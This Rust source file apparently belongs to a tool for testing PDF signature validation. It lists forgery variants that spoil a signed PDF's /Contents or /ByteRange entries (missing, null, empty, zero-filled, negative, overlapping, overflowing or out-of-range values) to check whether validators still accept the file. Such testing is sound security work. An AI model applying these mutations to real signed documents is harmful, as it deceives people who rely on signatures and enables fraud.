//! Universal signature forgery: the signature is spoilt so that it cannot be verified, and the reader is
//! to take that for nothing wrong.

use crate::copy::{find_last, replaced};
use crate::{Attack, Target};

pub(crate) const ATTACKS: &[Attack] = &[
    Attack {
        id: "A01",
        name: "contents-missing",
        make: |target| renamed(target, b"/Contents<", b"/Kontents<"),
        appended: None,
        signed: &["B3", "V2"],
    },
    Attack {
        id: "A01",
        name: "contents-null",
        make: |target| target.copy.patched(target.copy.hole(), b"null"),
        appended: None,
        signed: &["B3", "V2"],
    },
    Attack {
        id: "A01",
        name: "contents-empty",
        make: |target| target.copy.patched(target.copy.hole(), b"<>"),
        appended: None,
        signed: &["B3", "V2"],
    },
    Attack {
        id: "A01",
        name: "contents-zeros",
        make: contents_of_zeros,
        appended: None,
        signed: &["V2", "B3"],
    },
    Attack {
        id: "A01",
        name: "contents-emptied-by-a-revision",
        make: contents_emptied_by_a_revision,
        appended: Some("S5"),
        signed: &["V3"],
    },
    Attack {
        id: "A02",
        name: "byterange-missing",
        make: |target| renamed(target, b"/ByteRange[", b"/ByteRangX["),
        appended: None,
        signed: &["B1"],
    },
    Attack {
        id: "A02",
        name: "byterange-null",
        make: |target| target.copy.with_byte_range(" null"),
        appended: None,
        signed: &["B1"],
    },
    Attack {
        id: "A02",
        name: "byterange-of-two-numbers",
        make: |target| with_numbers(target, |a, _, _| format!("[0 {a}]")),
        appended: None,
        signed: &["B1"],
    },
    Attack {
        id: "A02",
        name: "byterange-negative",
        make: |target| with_numbers(target, |a, c, d| format!("[0 -{a} {c} {d}]")),
        appended: None,
        signed: &["B1"],
    },
    Attack {
        id: "A02",
        name: "byterange-overlapping",
        make: |target| with_numbers(target, |a, _, d| format!("[0 {a} {} {d}]", a - 100)),
        appended: None,
        signed: &["B2"],
    },
    Attack {
        id: "A02",
        name: "byterange-beyond-the-file",
        make: |target| with_numbers(target, |a, c, d| format!("[0 {a} {c} {d}9]")),
        appended: None,
        signed: &["B2"],
    },
    Attack {
        id: "A02",
        name: "byterange-that-overflows",
        make: |target| with_numbers(target, |a, c, _| format!("[0 {a} {c} {}]", u64::MAX)),
        appended: None,
        signed: &["V1"],
    },
    Attack {
        id: "A02",
        name: "byterange-by-reference",
        make: |target| target.copy.with_byte_range(" 2 0 R"),
        appended: None,
        signed: &["B1"],
    },
    Attack {
        id: "A02",
        name: "byterange-not-from-the-start",
        make: |target| with_numbers(target, |a, c, d| format!("[1 {a} {c} {d}]")),
        appended: None,
        signed: &["B2"],
    },
];

/// A01, A02: a key under another name of the same length.
fn renamed(target: &Target<'_>, from: &[u8], to: &[u8]) -> Vec<u8> {
    let at = find_last(&target.copy.bytes, from);
    target.copy.patched(at..at + from.len(), to)
}

/// A01: `/Contents` full of zeros.
fn contents_of_zeros(target: &Target<'_>) -> Vec<u8> {
    let hole = target.copy.hole();
    let zeros = vec![b'0'; hole.len() - 2];
    target.copy.patched(hole.start + 1..hole.end - 1, &zeros)
}

/// A01: the seal's dictionary written again, with nothing to verify.
fn contents_emptied_by_a_revision(target: &Target<'_>) -> Vec<u8> {
    let copy = target.copy;
    let hole = String::from_utf8(copy.bytes[copy.hole()].to_vec()).expect("digits");
    let emptied = replaced(&copy.object(copy.seal), &hole, "<>");
    copy.append(&[(copy.seal, emptied)])
}

/// A02: another `/ByteRange`, made from where the right numbers stand.
fn with_numbers(target: &Target<'_>, value: impl Fn(usize, usize, usize) -> String) -> Vec<u8> {
    let (copy, hole) = (target.copy, target.copy.hole());
    copy.with_byte_range(&value(hole.start, hole.end, copy.bytes.len() - hole.end))
}
